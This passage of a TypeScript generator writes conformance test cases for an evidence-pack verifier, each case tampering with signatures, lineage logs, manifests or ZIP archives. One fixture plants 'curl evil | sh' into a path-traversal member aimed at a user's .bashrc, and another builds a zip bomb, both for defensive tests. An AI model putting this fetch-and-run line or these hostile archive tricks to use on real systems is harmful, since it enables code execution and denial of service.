// `deno run -P=dev scripts/gen_conformance.ts [--out DIR]`: writes the conformance suite of
// `bernstein-verify` (fixtures/conformance/ by default) from a fixed seed. One folder per case:
// the evidence (`pack.zip`, or a lineage folder), `expected.json` (the command, the exit code,
// the exact set of failure kinds and text every run must show) and a README naming the attack.
// Cases whose name ends in `_fail` must fail. tests/conformance/conformance_test.ts runs the
// verifier on each case as an auditor would and fails when these files are stale.
//
// The expected verdicts are written here by hand, from the attack; they are never taken from
// a verifier run.
import { join } from "node:path";
import { parseArgs } from "node:util";
import { fileURLToPath } from "node:url";
import { canonicalBytes, type JsonObject, parseJsonBytes } from "../src/canonical/mod.ts";
import {
  type CarriedConsistencyProof,
  checkpointLineBytes,
  ed25519KeyPairFromSeed,
  encodePublicKeyPem,
  merkleHashHex,
  type MerkleTree,
  renderCheckpointDocument,
  sha256,
  sha256Hex,
  signCheckpoint,
  signDetachedJws,
  type SignedCheckpoint,
} from "../src/crypto/mod.ts";
import { SeededRandom } from "../src/io/mod.ts";
import {
  entryHashOfBytes,
  kidForPublicKey,
  makeAgentCard,
  parseEntry,
  renderAgentCard,
  sealEntry,
  signaturePath,
  signForeignAttestation,
} from "../src/lineage/mod.ts";
import {
  type OperatorSigner,
  type PackContent,
  type PackEntry,
  renderPackMembers,
  sealPack,
  zipMembers,
} from "../src/compliance/mod.ts";
import {
  manifestOutputHash,
  operatorFingerprint,
  PACK_CHECKPOINT_MEMBER,
  PACK_INCLUSION_MEMBER,
  PACK_MEMBERS,
} from "../src/pack_format/mod.ts";
import { rawZip, type RawZipMember, zipEntries } from "./raw_zip.ts";
import {
  SAMPLE_HMAC_KEY,
  type SampleAgent,
  sampleCheckpoint,
  type SampleLog,
  sampleLog,
  samplePackContent,
  sampleTree,
  signedEntry,
} from "./sample_pack.ts";

/** What a case must produce when the verifier runs on it. */
export interface ExpectedVerdict {
  /** Arguments after `bernstein-verify`, run inside the case folder. */
  args: string[];
  /** 0 pass, 1 fail. */
  exit: 0 | 1;
  /** The first stdout line starts with this. */
  summary: string;
  /** The exact set of failure kinds in the JSON (sorted, without repeats). */
  kinds: string[];
  /** Text every run must print (each a substring of stdout). */
  messages: string[];
}

/** One case of the suite. */
export interface ConformanceCase {
  /** Folder name (`_fail` suffix when it must fail). */
  name: string;
  /** The attack (or the honest situation), one paragraph. */
  attack: string;
  /** How the evidence was made. */
  made: string;
  /** Files of the case folder besides README.md and expected.json. */
  files: Map<string, Uint8Array>;
  /** The verdict. */
  expected: ExpectedVerdict;
}

const enc = new TextEncoder();
const dec = new TextDecoder();

function pack(members: ReadonlyMap<string, Uint8Array>): Map<string, Uint8Array> {
  return new Map([["pack.zip", zipMembers(members)]]);
}

function sealed(content: PackContent, signer: OperatorSigner): Map<string, Uint8Array> {
  const r = renderPackMembers(content);
  return sealPack(r.members, r.manifestBase, signer).members;
}

function resealMembers(
  members: Map<string, Uint8Array>,
  signer: OperatorSigner,
  edit: (manifest: JsonObject) => void = () => {},
): Map<string, Uint8Array> {
  const manifest = parseJsonBytes(members.get(PACK_MEMBERS.manifest) as Uint8Array) as JsonObject;
  const { input_hashes: _, output_hash: __, ...base } = manifest;
  edit(base);
  const rest = new Map(members);
  rest.delete(PACK_MEMBERS.manifest);
  rest.delete(PACK_MEMBERS.manifestSignature);
  return sealPack(rest, base, signer).members;
}

/** The leaf indices of a content's window entries: the sample's log ends with the window. */
function windowLeaves(sample: SampleLog, content: PackContent): { hash: string; leaf: number }[] {
  const first = sample.log.length - content.entries.length;
  return content.entries.map((e, i) => ({ hash: e.hash, leaf: first + i }));
}

/**
 * An insider's pack holds the operator key, so it also re-signs the checkpoint over the log it
 * presents (the sample's entries before the window, then the content's window).
 */
function recheckpointed(sample: SampleLog, content: PackContent): PackContent {
  const before = sample.log.slice(0, sample.log.length - content.entries.length);
  const log = { ...sample, log: [...before, ...content.entries] };
  return { ...content, checkpoint: sampleCheckpoint(log, windowLeaves(log, content)) };
}

function failVerdict(args: string[], kinds: string[], messages: string[]): ExpectedVerdict {
  const unique = [...new Set(kinds)].sort();
  return { args, exit: 1, summary: "FAIL pack:", kinds: unique, messages };
}

function lastIndexOf(content: PackContent, path: string): number {
  for (let i = content.entries.length - 1; i >= 0; i--) {
    if (content.entries[i].entry.artefact_path === path) return i;
  }
  throw new Error(`no entry of ${path}`);
}

function replaceEntry(content: PackContent, index: number, entry: PackEntry): PackContent {
  const entries = [...content.entries];
  entries[index] = entry;
  return { ...content, entries };
}

/** A line re-encoded by hand: same values, other bytes. */
function tamperedLine(text: string): PackEntry {
  const line = enc.encode(text);
  return {
    line,
    entry: parseEntry(parseJsonBytes(line)),
    hash: entryHashOfBytes(line),
    signature: undefined,
  };
}

function reorderedKeys(e: PackEntry): string {
  const value = parseJsonBytes(e.line) as JsonObject;
  const keys = Object.keys(value).sort().reverse();
  return "{" + keys.map((k) => `${JSON.stringify(k)}:${stringifyValue(value[k])}`).join(",") +
    "}";
}

function stringifyValue(v: unknown): string {
  return typeof v === "bigint" ? v.toString() : JSON.stringify(v);
}

function spacedJson(e: PackEntry): string {
  const value = parseJsonBytes(e.line) as JsonObject;
  return "{" + Object.keys(value).map((k) => `${JSON.stringify(k)}: ${stringifyValue(value[k])}`)
    .join(", ") +
    "}";
}

function agentNamed(sample: SampleLog, id: string): SampleAgent {
  const a = sample.agents.find((x) => x.agentId === id);
  if (a === undefined) throw new Error(`no agent ${id}`);
  return a;
}

function lineageDir(sample: SampleLog, entries: readonly PackEntry[]): Map<string, Uint8Array> {
  const files = new Map<string, Uint8Array>();
  const lines = entries.map((e) => dec.decode(e.line) + "\n").join("");
  files.set("lineage/log.jsonl", enc.encode(lines));
  for (const e of entries) {
    if (e.signature !== undefined) {
      files.set(`lineage/${signaturePath(e.entry.artefact_path, e.hash)}`, e.signature);
    }
  }
  for (const a of sample.agents) files.set(`agents/${a.agentId}/card.json`, a.card);
  return files;
}

/** Every case of the suite, built from the fixed seed. */
export function conformanceCases(): ConformanceCase[] {
  const sample = sampleLog({ seed: 7 });
  const content = samplePackContent(sample);
  const op = sample.operator;
  const fp = operatorFingerprint(op.publicKey);
  const pin = ["--operator-fingerprint", fp];
  const args = ["pack", "pack.zip", ...pin];
  const honest = sealed(content, op);
  const attacker = new SeededRandom(999);
  const mallory = ed25519KeyPairFromSeed(attacker.bytes(32));
  const malloryOp: OperatorSigner = { seed: mallory.seed, publicKey: mallory.publicKey };
  const agent1 = agentNamed(sample, "agent-1");
  const agent2 = agentNamed(sample, "agent-2");
  const last3 = lastIndexOf(content, "src/file_3.ts");
  const n = content.entries.length;
  const agents = new Set(content.entries.map((e) => e.entry.agent_id)).size;
  const cases: ConformanceCase[] = [];
  const add = (c: ConformanceCase) => cases.push(c);

  // Passing cases.
  add({
    name: "pass_pinned_fingerprint",
    attack:
      "None: an untouched pack, verified against the operator fingerprint handed over out of band.",
    made:
      "Built by the pack builder from the seeded sample log (March 2026 window, a fork resolved by a merge, parents before the window).",
    files: pack(honest),
    expected: {
      args,
      exit: 0,
      summary: `PASS pack: ${n} entries, ${agents} agents`,
      kinds: [],
      messages: [],
    },
  });
  add({
    name: "pass_pinned_key",
    attack:
      "None: the same pack, verified against the operator's public key file received out of band.",
    made: "The honest pack and the operator's operator.pub next to it.",
    files: new Map([
      ...pack(honest),
      ["operator.pub", enc.encode(encodePublicKeyPem(op.publicKey))],
    ]),
    expected: {
      args: ["pack", "pack.zip", "--operator-key", "operator.pub"],
      exit: 0,
      summary: `PASS pack: ${n} entries, ${agents} agents`,
      kinds: [],
      messages: [],
    },
  });
  add({
    name: "pass_unpinned",
    attack:
      "None; but no operator key is pinned, so the verifier passes and says that the signer was not checked against anything outside the pack.",
    made: "The honest pack, verified without --operator-fingerprint.",
    files: pack(honest),
    expected: {
      args: ["pack", "pack.zip"],
      exit: 0,
      summary: `PASS pack: ${n} entries, ${agents} agents`,
      kinds: [],
      messages: ["note: operator key not pinned"],
    },
  });
  add({
    name: "pass_repacked",
    attack:
      "None: the auditor's copy was re-zipped (stored instead of deflated, another member order). Verification is over the members, not the container bytes.",
    made: "The honest pack's members written again, stored, in reverse order.",
    files: new Map([[
      "pack.zip",
      rawZip(zipEntries(honest).reverse().map((m) => ({ ...m, method: 0 }))),
    ]]),
    expected: {
      args,
      exit: 0,
      summary: `PASS pack: ${n} entries, ${agents} agents`,
      kinds: [],
      messages: [],
    },
  });
  const empty = samplePackContent(sampleLog({ seed: 7, entries: 0, forkAndMerge: false }));
  add({
    name: "pass_empty_window",
    attack: "None: a period in which nothing was recorded; the pack says so and verifies.",
    made: "Built from a sample log whose entries all precede the window.",
    files: pack(sealed(empty, op)),
    expected: {
      args,
      exit: 0,
      summary: "PASS pack: 0 entries, 0 agents",
      kinds: [],
      messages: [],
    },
  });
  add({
    name: "pass_unicode_org",
    attack:
      "None: an organisation name outside ASCII, stored as raw UTF-8 in the canonical manifest.",
    made: 'The sample pack built for "Société Générale — Zürich 🏦".',
    files: pack(sealed({ ...content, org: "Société Générale — Zürich 🏦" }, op)),
    expected: {
      args,
      exit: 0,
      summary: `PASS pack: ${n} entries, ${agents} agents`,
      kinds: [],
      messages: [],
    },
  });

  // Lineage attacks by an insider who holds the operator key (so the manifest, its hashes
  // and its signature are all consistent) but no agent key: only the lineage checks remain.
  const insider =
    " The insider re-sealed the pack with the operator key (input hashes, output hash and manifest signature are consistent), so only the lineage checks can catch it.";
  {
    const e = content.entries[last3];
    const edited = parseJsonBytes(e.line) as JsonObject;
    edited.content_hash = "sha256:" + "e".repeat(64);
    const line = canonicalBytes(edited, "canon");
    const entry = parseEntry(parseJsonBytes(line));
    const hash = entryHashOfBytes(line);
    add({
      name: "edited_line_fail",
      attack:
        "A recorded write is rewritten: the content_hash of the last entry of src/file_3.ts now names other content. The line stays canonical and its signature file is renamed to the new entry hash." +
        insider,
      made:
        "content_hash replaced, line re-serialised canonically, the agent's old signature kept.",
      files: pack(
        sealed(
          recheckpointed(
            sample,
            replaceEntry(content, last3, { line, entry, hash, signature: e.signature }),
          ),
          op,
        ),
      ),
      expected: failVerdict(args, ["invalid signature"], [
        "lineage-log.jsonl:" + (last3 + 1) + ": invalid signature: signature does not verify",
      ]),
    });
  }
  add({
    name: "reordered_keys_fail",
    attack:
      "An entry's JSON keys are written in another order: the same values, different bytes, so the signed bytes are no longer what the log holds." +
      insider,
    made: "The last entry of src/file_3.ts re-serialised with its keys in reverse order.",
    files: pack(
      sealed(
        replaceEntry(
          content,
          last3,
          tamperedLine(reorderedKeys(content.entries[last3])),
        ),
        op,
      ),
    ),
    expected: failVerdict(args, ["non-canonical line bytes"], [
      `lineage-log.jsonl:${last3 + 1}: non-canonical line bytes`,
    ]),
  });
  add({
    name: "spaced_json_fail",
    attack:
      "An entry is re-formatted with spaces after ',' and ':' (as Python's json.dumps does by default)." +
      insider,
    made: "The last entry of src/file_3.ts written with ', ' and ': ' separators.",
    files: pack(
      sealed(
        replaceEntry(
          content,
          last3,
          tamperedLine(spacedJson(content.entries[last3])),
        ),
        op,
      ),
    ),
    expected: failVerdict(args, ["non-canonical line bytes"], [
      `lineage-log.jsonl:${last3 + 1}: non-canonical line bytes`,
    ]),
  });
  {
    const members = new Map(honest);
    const log = members.get(PACK_MEMBERS.log) as Uint8Array;
    members.set(PACK_MEMBERS.log, log.subarray(0, log.length - 1));
    add({
      name: "stripped_newline_fail",
      attack: "The log's final newline is cut off, as a torn or truncated write leaves it." +
        insider,
      made: "The last byte (\\n) of lineage-log.jsonl removed.",
      files: pack(resealMembers(members, op)),
      expected: failVerdict(args, ["missing trailing newline"], [
        `lineage-log.jsonl:${n}: missing trailing newline`,
      ]),
    });
  }
  {
    const e = content.entries[last3];
    const forged = signDetachedJws(mallory.seed, e.line, { kid: e.entry.agent_card_kid });
    add({
      name: "forged_signature_fail",
      attack:
        "An entry's signature is replaced by one made with a key the attacker controls, under the real agent's key id." +
        insider,
      made:
        "signatures/<entry>.jws of the last entry of src/file_3.ts re-signed with another Ed25519 key, header kid unchanged.",
      files: pack(
        sealed(replaceEntry(content, last3, { ...e, signature: enc.encode(forged) }), op),
      ),
      expected: failVerdict(args, ["invalid signature"], [
        `lineage-log.jsonl:${last3 + 1}: invalid signature: signature does not verify`,
      ]),
    });
  }
  {
    const swapped = content.cards.map((c) =>
      c.agent_id === agent1.agentId
        ? {
          ...c,
          bytes: renderAgentCard(
            makeAgentCard(agent1.agentId, { kid: agent1.kid, publicKey: agent2.publicKey }),
          ),
        }
        : c
    );
    const count = content.entries.filter((e) => e.entry.agent_id === agent1.agentId).length;
    add({
      name: "swapped_card_fail",
      attack:
        `agent-1's card is swapped for one that publishes another key (agent-2's) under agent-1's identity and key id, so that signatures by that other key would pass as agent-1's.${insider}`,
      made:
        `agent-cards/agent-1/${agent1.kid}.json rewritten with agent-2's public key; ${count} entries of agent-1 no longer verify.`,
      files: pack(sealed({ ...content, cards: swapped }, op)),
      expected: failVerdict(args, ["invalid signature"], [
        `signature does not verify with the card of agent "agent-1" kid "${agent1.kid}"`,
      ]),
    });
  }
  {
    const e = content.entries[last3];
    const other = e.entry.agent_id === agent2.agentId ? agent1 : agent2;
    const jws = signDetachedJws(other.seed, e.line, { kid: other.kid });
    add({
      name: "kid_substitution_fail",
      attack:
        `Another agent (${other.agentId}) signs an entry that names ${e.entry.agent_id}'s key id, and its own kid goes into the JWS header: a valid signature, but by a key the entry does not name.${insider}`,
      made:
        "The last entry of src/file_3.ts signed by another agent's key with that agent's kid in the header.",
      files: pack(sealed(replaceEntry(content, last3, { ...e, signature: enc.encode(jws) }), op)),
      expected: failVerdict(args, ["kid binding mismatch"], [
        `kid binding mismatch: entry kid "${e.entry.agent_card_kid}" but JWS header kid "${other.kid}"`,
      ]),
    });
  }
  {
    const members = new Map(honest);
    members.set(
      `agent-cards/agent-1-rogue/${agent1.kid}.json`,
      renderAgentCard(
        makeAgentCard(agent1.agentId, { kid: agent1.kid, publicKey: mallory.publicKey }),
      ),
    );
    add({
      name: "conflicting_cards_fail",
      attack:
        "A second card claims agent-1's identity and key id with a different key, filed under another folder. The card body is authoritative, so the two cards conflict and neither is trusted." +
        insider,
      made: "agent-cards/agent-1-rogue/<agent-1 kid>.json added with another public key.",
      files: pack(resealMembers(members, op)),
      expected: failVerdict(
        args,
        ["conflicting agent cards", "kid binding cannot be established"],
        [
          `conflicting agent cards for agent "agent-1" kid "${agent1.kid}"`,
        ],
      ),
    });
  }
  {
    const forked = sampleLog({ seed: 7, merge: false });
    add({
      name: "unresolved_fork_fail",
      attack:
        "Two agents wrote different content on the same version of src/file_0.ts and nobody merged it: the log is authentic, but its history of that file is ambiguous.",
      made: "Built honestly from a sample log whose fork has no merge entry.",
      files: pack(sealed(samplePackContent(forked), forked.operator)),
      expected: failVerdict(
        [
          "pack",
          "pack.zip",
          "--operator-fingerprint",
          operatorFingerprint(forked.operator.publicKey),
        ],
        ["unresolved fork"],
        [
          "src/file_0.ts: unresolved fork",
        ],
      ),
    });
  }
  {
    const bad = sampleLog({ seed: 7 });
    const ghost = "sha256:" + "0".repeat(63) + "1";
    const entry = sealEntry({
      artefact_path: "src/ghost.ts",
      artefact_kind: "file",
      content_hash: "sha256:" + "a".repeat(64),
      parent_hashes: [ghost],
      agent_id: agent1.agentId,
      agent_card_kid: agent1.kid,
      tool_call_id: "task:t-ghost",
      span_id: "span-ghost",
      ts_ns: BigInt(Date.UTC(2026, 2, 20)) * 1_000_000n,
    }, SAMPLE_HMAC_KEY);
    bad.log.push(signedEntry(entry, agentNamed(bad, "agent-1")));
    const c = samplePackContent(bad);
    add({
      name: "dangling_parent_fail",
      attack:
        "An entry (correctly signed by its agent) names a parent that exists nowhere: neither in the pack nor declared as preceding the period.",
      made:
        "An entry of src/ghost.ts whose parent_hashes names sha256:00…01, appended to the sample log and packed honestly.",
      files: pack(sealed(c, bad.operator)),
      expected: failVerdict(args, ["dangling parent_hash"], [
        `dangling parent_hash: parent ${ghost} is not in the log`,
      ]),
    });
  }
  {
    // An entry in the middle of the window, built on window entries, that later ones build on.
    const inWindow = new Set(content.entries.map((e) => e.hash));
    const victim = content.entries.findIndex((e, i) =>
      e.entry.parent_hashes.length > 0 && e.entry.parent_hashes.every((p) => inWindow.has(p)) &&
      content.entries.slice(i + 1).some((x) => x.entry.parent_hashes.includes(e.hash))
    );
    const gone = content.entries[victim];
    const child = content.entries.findIndex((x) => x.entry.parent_hashes.includes(gone.hash));
    const without = samplePackContent({
      ...sample,
      log: sample.log.filter((e) => e.hash !== gone.hash),
    });
    add({
      name: "removed_entry_fail",
      attack:
        "An entry is deleted from the middle of the log together with its signature, and everything else is made consistent." +
        insider,
      made: `Entry ${
        victim + 1
      } (${gone.entry.artefact_path}) removed with its signature; CSV, Article 12 figures and manifest rebuilt.`,
      files: pack(sealed(without, op)),
      expected: failVerdict(args, ["dangling parent_hash"], [
        `lineage-log.jsonl:${child}: dangling parent_hash: parent ${gone.hash} is not in the log`,
      ]),
    });
    const members = new Map(honest);
    const lines = dec.decode(members.get(PACK_MEMBERS.log)).split("\n");
    lines.splice(victim, 1);
    members.set(PACK_MEMBERS.log, enc.encode(lines.join("\n")));
    add({
      name: "removed_entry_unsealed_fail",
      attack:
        "An entry is deleted from the middle of the log by someone without the operator key: nothing else is changed.",
      made: `Line ${victim + 1} of lineage-log.jsonl deleted after signing.`,
      files: pack(members),
      expected: failVerdict(args, [
        "article12 facts mismatch",
        "CSV mismatch",
        "dangling parent_hash",
        "entry count mismatch",
        "inclusion proof invalid",
        "input hash mismatch",
        "orphan signature",
      ], [
        "lineage-log.jsonl: input hash mismatch",
        `lineage-log.jsonl:${child}: dangling parent_hash`,
        `entry count mismatch: entry_count is ${n}, lineage-log.jsonl has ${n - 1} lines`,
      ]),
    });
  }

  // Attacks on the pack itself.
  {
    const members = new Map(honest);
    const card = renderAgentCard(
      makeAgentCard("agent-9", { kid: "0123456789abcdef", publicKey: mallory.publicKey }),
    );
    members.set("agent-cards/agent-9/0123456789abcdef.json", card);
    add({
      name: "member_added_after_signing_fail",
      attack:
        "A member is slipped into the pack after the operator signed it (here a card for a new agent).",
      made: "agent-cards/agent-9/0123456789abcdef.json added to the signed pack.",
      files: pack(members),
      expected: failVerdict(args, ["member not in manifest"], [
        "agent-cards/agent-9/0123456789abcdef.json: member not in manifest",
      ]),
    });
  }
  {
    const members = new Map(honest);
    members.set(PACK_MEMBERS.readme, enc.encode("# Nothing to see here\n"));
    add({
      name: "manifest_hash_mismatch_fail",
      attack:
        "A member is changed after signing (the README cover rewritten): its bytes no longer have the hash the signed manifest lists.",
      made: "README.md replaced after the pack was sealed.",
      files: pack(members),
      expected: failVerdict(args, ["input hash mismatch"], ["README.md: input hash mismatch"]),
    });
  }
  {
    const members = new Map(honest);
    const m = parseJsonBytes(members.get(PACK_MEMBERS.manifest) as Uint8Array) as JsonObject;
    m.org = "Another Bank";
    const bytes = canonicalBytes(m, "canon");
    members.set(PACK_MEMBERS.manifest, bytes);
    members.set(
      PACK_MEMBERS.manifestSignature,
      enc.encode(signDetachedJws(op.seed, bytes, { kid: kidForPublicKey(op.publicKey) })),
    );
    add({
      name: "output_hash_mismatch_fail",
      attack:
        "The manifest's org is changed and the manifest re-signed, but its output_hash (SHA-256 of the manifest without that field) was not recomputed.",
      made: "org rewritten, manifest re-signed with the operator key, output_hash left as it was.",
      files: pack(members),
      expected: failVerdict(args, ["output hash mismatch"], [
        "pack-manifest.json: output hash mismatch",
      ]),
    });
  }
  {
    const members = new Map(honest);
    const m = parseJsonBytes(members.get(PACK_MEMBERS.manifest) as Uint8Array) as JsonObject;
    m.org = "Another Bank";
    m.output_hash = manifestOutputHash(m);
    members.set(PACK_MEMBERS.manifest, canonicalBytes(m, "canon"));
    add({
      name: "manifest_signature_invalid_fail",
      attack:
        "The manifest is edited consistently (org changed, output_hash recomputed) by someone without the operator key: the old signature no longer covers it.",
      made: "org rewritten and output_hash recomputed; pack-manifest.json.sig kept.",
      files: pack(members),
      expected: failVerdict(args, ["manifest signature invalid"], [
        "pack-manifest.json.sig: manifest signature invalid: does not verify with operator.pub",
      ]),
    });
  }
  add({
    name: "manifest_signed_by_another_key_fail",
    attack:
      "The whole pack is rebuilt and signed with the attacker's own key, which is embedded as operator.pub: every internal check passes, only the fingerprint pinned out of band exposes it.",
    made:
      "The sample pack sealed with another Ed25519 key; verified with the real operator's fingerprint.",
    files: pack(
      sealed({
        ...content,
        operatorPublicKey: malloryOp.publicKey,
        checkpoint: sampleCheckpoint(
          { ...sample, operator: malloryOp },
          windowLeaves(sample, content),
        ),
      }, malloryOp),
    ),
    expected: failVerdict(args, ["operator key mismatch"], [
      `operator key mismatch: the pack is signed by ${
        operatorFingerprint(malloryOp.publicKey)
      }, --operator-fingerprint is ${fp}`,
    ]),
  });
  {
    const c = { ...content, until: "2026-03-15" };
    const late = content.entries.findIndex((e) =>
      e.entry.ts_ns >= BigInt(Date.UTC(2026, 2, 16)) * 1_000_000n
    );
    add({
      name: "entry_outside_period_fail",
      attack:
        "The manifest claims a shorter period (2026-03-01..2026-03-15) than the entries it holds reach." +
        insider,
      made: "The sample pack sealed with until = 2026-03-15.",
      files: pack(sealed(c, op)),
      expected: failVerdict(args, ["entry outside period"], [
        `lineage-log.jsonl: entry outside period: entry ${content.entries[late].hash}`,
      ]),
    });
  }
  {
    const members = new Map(honest);
    const csv = dec.decode(members.get(PACK_MEMBERS.csv)).replace(",agent-2,", ",agent-3,");
    members.set(PACK_MEMBERS.csv, enc.encode(csv));
    add({
      name: "csv_mismatch_fail",
      attack:
        "The evidence CSV attributes a write to the wrong agent, so a spreadsheet reader would see a different history from the signed log." +
        insider,
      made: "The first agent-2 row of article12-evidence.csv changed to agent-3.",
      files: pack(resealMembers(members, op)),
      expected: failVerdict(args, ["CSV mismatch"], ["article12-evidence.csv: CSV mismatch"]),
    });
  }
  {
    const article12 = structuredClone(content.article12) as JsonObject;
    (article12["12(1)"] as JsonObject).entry_count = n + 100;
    add({
      name: "article12_facts_mismatch_fail",
      attack: "The Article 12 facts overstate the record (100 more entries than the log holds)." +
        insider,
      made: 'article12["12(1)"].entry_count raised by 100 before sealing.',
      files: pack(sealed({ ...content, article12 }, op)),
      expected: failVerdict(args, ["article12 facts mismatch"], [
        "article12 facts mismatch: article12.12(1).entry_count differs",
      ]),
    });
  }

  // Hostile archives: refused before anything is inflated.
  const members = zipEntries(honest);
  const withExtra = (extra: RawZipMember[]) =>
    new Map([["pack.zip", rawZip([...members, ...extra])]]);
  add({
    name: "zip_slip_fail",
    attack:
      "A member named ../../home/auditor/.bashrc, which a naive unzip would write outside the extraction folder.",
    made: "The honest pack with one extra member of that name.",
    files: withExtra([{
      name: "../../home/auditor/.bashrc",
      data: enc.encode("curl evil | sh\n"),
    }]),
    expected: failVerdict(args, ["zip-slip member name"], [
      '"../../home/auditor/.bashrc": zip-slip member name',
    ]),
  });
  add({
    name: "duplicate_member_fail",
    attack:
      "lineage-log.jsonl appears twice; tools disagree on which copy they read (first or last), so one copy can be shown to the verifier and another to a person.",
    made: "A second lineage-log.jsonl member with one line removed appended to the honest pack.",
    files: withExtra([{
      name: PACK_MEMBERS.log,
      data: enc.encode(dec.decode(honest.get(PACK_MEMBERS.log)).split("\n").slice(1).join("\n")),
    }]),
    expected: failVerdict(args, ["duplicate member"], ['"lineage-log.jsonl": duplicate member']),
  });
  add({
    name: "duplicate_member_case_fail",
    attack:
      "README.md and readme.md: distinct in the archive, but one file on a case-insensitive disk.",
    made: "A readme.md member added to the honest pack.",
    files: withExtra([{ name: "readme.md", data: enc.encode("# other cover\n") }]),
    expected: failVerdict(args, ["duplicate member"], [
      '"readme.md": duplicate member (same name as "README.md" ignoring case)',
    ]),
  });
  add({
    name: "oversized_member_fail",
    attack:
      "README.md declares 2 MiB (of zeros, a few KiB compressed): over the 1 MiB limit for that member, refused before inflating.",
    made: "README.md replaced by 2 MiB of zero bytes.",
    files: new Map([[
      "pack.zip",
      rawZip(
        members.map((m) =>
          m.name === PACK_MEMBERS.readme ? { ...m, data: new Uint8Array(2 * 1024 * 1024) } : m
        ),
      ),
    ]]),
    expected: failVerdict(args, ["oversized member"], [
      '"README.md": oversized member: declares 2097152 bytes, over the 1048576-byte limit',
    ]),
  });
  {
    const bomb = new Uint8Array(50 * 1024 * 1024);
    add({
      name: "zip_bomb_fail",
      attack:
        "A member lies about its size: README.md declares 2 000 bytes but its DEFLATE stream expands to 50 MiB. Inflating stops at the declared size.",
      made:
        "README.md's data replaced by deflated 50 MiB of zeros, declared size and CRC left small.",
      files: new Map([[
        "pack.zip",
        rawZip(
          members.map((m) =>
            m.name === PACK_MEMBERS.readme ? { ...m, data: bomb, declaredSize: 2000, crc: 0 } : m
          ),
        ),
      ]]),
      expected: failVerdict(args, ["corrupt member"], [
        "README.md: inflates past its declared size of 2000 bytes (zip bomb); stopped",
      ]),
    });
  }
  add({
    name: "encrypted_member_fail",
    attack:
      "A member is marked encrypted: its content cannot be checked without a password the auditor does not have.",
    made: "The encryption flag set on operator.pub.",
    files: new Map([[
      "pack.zip",
      rawZip(members.map((m) => m.name === PACK_MEMBERS.operatorKey ? { ...m, flags: 0x0801 } : m)),
    ]]),
    expected: failVerdict(args, ["encrypted member"], ['"operator.pub": encrypted member']),
  });
  {
    const zip = zipMembers(honest);
    add({
      name: "truncated_archive_fail",
      attack: "The pack was cut short in transit.",
      made: "The honest pack's first half only.",
      files: new Map([["pack.zip", zip.subarray(0, Math.floor(zip.length / 2))]]),
      expected: failVerdict(args, ["unreadable archive"], ["not a ZIP archive"]),
    });
  }

  // The checkpoint a format-3 pack carries.
  {
    const members = new Map(honest);
    const batch = JSON.parse(dec.decode(members.get(PACK_INCLUSION_MEMBER)));
    const first = batch.proof[0] as string;
    batch.proof[0] = (first[0] === "0" ? "1" : "0") + first.slice(1);
    members.set(
      PACK_INCLUSION_MEMBER,
      enc.encode(dec.decode(canonicalBytes(batch, "canon")) + "\n"),
    );
    add({
      name: "bad_inclusion_proof_fail",
      attack:
        "The batch inclusion proof does not place the window's entries in the operator's checkpoint (one proof hash changed): the pack's entries were not shown to be in the log the operator committed to." +
        insider,
      made:
        "The first hash of inclusion-proof.json changed; manifest re-sealed with the operator key.",
      files: pack(resealMembers(members, op)),
      expected: failVerdict(args, ["inclusion proof invalid"], [
        "inclusion-proof.json: inclusion proof invalid: the window's entries at leaves",
      ]),
    });
  }
  {
    const members = new Map(honest);
    members.delete(PACK_CHECKPOINT_MEMBER);
    members.delete(PACK_INCLUSION_MEMBER);
    add({
      name: "pass_format2_pack",
      attack:
        "None: a pack of format 2 (before checkpoints) still verifies; it simply carries no checkpoint.",
      made: "The honest pack without checkpoint.json and inclusion-proof.json, sealed as format 2.",
      files: pack(resealMembers(members, op, (m) => (m.pack_format_version = 2))),
      expected: {
        args,
        exit: 0,
        summary: `PASS pack: ${n} entries, ${agents} agents`,
        kinds: [],
        messages: [],
      },
    });
  }

  // Foreign attestations in a pack: reported, never a verdict.
  {
    const issuer = ed25519KeyPairFromSeed(new SeededRandom(4242).bytes(32));
    const target = content.entries[0];
    const statement = {
      issuer: "ci.example",
      issuer_key_id: "ci-1",
      content_hash: target.entry.content_hash,
      claimed_subject: target.entry.artefact_path,
      trust_class: "third_party" as const,
    };
    const envelopes = [
      signForeignAttestation(statement, "sha256:" + "c".repeat(64), issuer.seed),
      { ...statement, envelope: { format: "in-toto", payload_hash: "sha256:" + "d".repeat(64) } },
      { ...statement, trust_class: "operator", envelope: { format: "jws-detached" } },
    ];
    const attestations = envelopes.map((a) => {
      const bytes = canonicalBytes(a as unknown as JsonObject, "canon");
      return { entryHash: target.hash, hex: sha256Hex(bytes), bytes };
    });
    const names = attestations.map((a) => `attestations/${a.entryHash.slice(7)}/${a.hex}.json`);
    add({
      name: "pass_foreign_attestations",
      attack:
        "None: the pack carries three foreign attestations of one entry (one signed by a key the auditor pins, one of a format no verifier exists for, one malformed). They are reported one by one and never change the verdict on the pack.",
      made:
        "The sample pack with attestations/<entry>/<hash>.json members; issuer.pub is the pinned issuer key.",
      files: new Map([
        ["pack.zip", zipMembers(sealed({ ...content, attestations }, op))],
        ["issuer.pub", enc.encode(encodePublicKeyPem(issuer.publicKey))],
      ]),
      expected: {
        args: [...args, "--trust-issuer", "ci-1=issuer.pub"],
        exit: 0,
        summary: `PASS pack: ${n} entries, ${agents} agents`,
        kinds: [],
        messages: [
          `foreign attestation ${names[0]}: verified_foreign (trust third_party)`,
          `foreign attestation ${
            names[1]
          }: unverifiable (trust third_party): no verifier for format "in-toto"`,
          `foreign attestation ${names[2]}: malformed (trust public)`,
        ],
      },
    });
  }

  // chain and forks over a lineage folder.
  add({
    name: "chain_pass",
    attack: "None: one artefact's history in an untouched lineage folder.",
    made: "The sample log written as .sdd/lineage and .sdd/agents.",
    files: lineageDir(sample, sample.log),
    expected: {
      args: ["chain", "src/file_0.ts", "--lineage-dir", "lineage"],
      exit: 0,
      summary: `PASS chain src/file_0.ts: ${
        sample.log.filter((e) => e.entry.artefact_path === "src/file_0.ts").length
      } entries`,
      kinds: [],
      messages: [],
    },
  });
  {
    const forked = sampleLog({ seed: 7, merge: false });
    add({
      name: "forks_unresolved_fail",
      attack: "The fork of src/file_0.ts was never merged; bernstein-verify forks lists it.",
      made: "The sample log without the steward's merge, as a lineage folder.",
      files: lineageDir(forked, forked.log),
      expected: {
        args: ["forks", "src/file_0.ts", "--lineage-dir", "lineage"],
        exit: 1,
        summary: "FAIL forks src/file_0.ts:",
        kinds: ["unresolved fork"],
        messages: ["src/file_0.ts: unresolved fork: parent"],
      },
    });
    const e = forked.log[forked.log.length - 1];
    const broken = [...forked.log];
    broken[broken.length - 1] = {
      ...e,
